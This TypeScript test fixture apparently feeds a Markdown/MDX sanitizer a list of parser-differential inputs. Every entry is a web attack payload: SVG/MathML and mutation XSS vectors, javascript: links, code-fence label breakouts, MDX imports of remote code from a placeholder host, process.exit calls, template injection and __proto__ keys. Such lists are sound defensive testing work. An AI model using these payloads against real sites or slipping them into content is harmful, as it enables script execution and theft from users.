// Inputs that two parsers read differently: foreign content, mutation, templates, MDX, code and its labels.
import { attacks, HOST, RUN } from './attack.ts';

const FOREIGN = [
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate attributeName="href" values="javascript:${RUN}" /><set onbegin="${RUN}"/></svg>`,
  `<svg><foreignObject><iframe src="${HOST}"></iframe></foreignObject></svg>`,
  `<svg><use href="${HOST}/x.svg#a"></use><image href="${HOST}/x.png"/></svg>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><desc><noscript></desc><img title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><script>${RUN}</script><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode="open"><slot></slot><script>${RUN}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<title><p title="</title><img src=x onerror=${RUN}>">`,
  `<plaintext>\n\n## Swallowed?\n`,
  `<select><template><script>${RUN}</script></template><img src=x onerror=${RUN}></select>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><?php echo 1 ?><img src=x onerror=${RUN}>`,
  `<!DOCTYPE html><!ENTITY x "y"> &x; text`,
  `<a href="x" <b>onclick=${RUN}>x</a>`,
  `<p title="a\n\n"><img src=x onerror=${RUN}>`,
  `</p></div></article></main></body></html><script>${RUN}</script>`,
  `<table><caption><svg><title><table><tr><td></caption><img src=x onerror=${RUN}></table>`,
  `<a><table><td><a href="javascript:${RUN}">x</a></td></table></a>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
];

const CODE = [
  `\`\`\`js"><script>${RUN}</script>\nx\n\`\`\``,
  `\`\`\`js file="<img src=x onerror=${RUN}>" {1} diff\n</code></pre><script>${RUN}</script>\n\`\`\``,
  `\`\`\`constructor\nx\n\`\`\`\n\`\`\`__proto__\ny\n\`\`\`\n\`\`\`toString\nz\n\`\`\``,
  `\`</code><script>${RUN}</script>\``,
  `<pre><code class="language-js aside">a</code><script>${RUN}</script></pre>`,
  `<pre lang="js" onclick="${RUN}"><img src=x onerror=${RUN}>text</pre>`,
  `## \`</span><img src=x onerror=${RUN}>\`\n\n## <img src=x onerror=${RUN}> "x"\n`,
];

const MDX = [
  `import x from '${HOST}/x.js'\n\nexport const y = process.exit(1)\n\n<Thing {...props} />`,
  `{${RUN}} {process.exit(1)} {\`\${${RUN}}\`}\n\n<div>{${RUN}}</div>`,
  `---\ntitle: x\ncontributors: [root]\n---\n\n<Records set="options" />\n\n<PackageCards kind="loader" />`,
  `T> Tip\n\n> [!DETAILS] <img src=x onerror=${RUN}>\n> x\n\n> [!NOTE]\n> <script>${RUN}</script>`,
  `> [!__proto__]\n> x\n\n> [!constructor]\n> y`,
  '${process.exit(1)} <%= process.exit(1) %> {{constructor.constructor("return 1")()}}',
];

export const PARSING_ATTACKS = [
  ...attacks('foreign', FOREIGN),
  ...attacks('code', CODE),
  ...attacks('mdx', MDX),
];
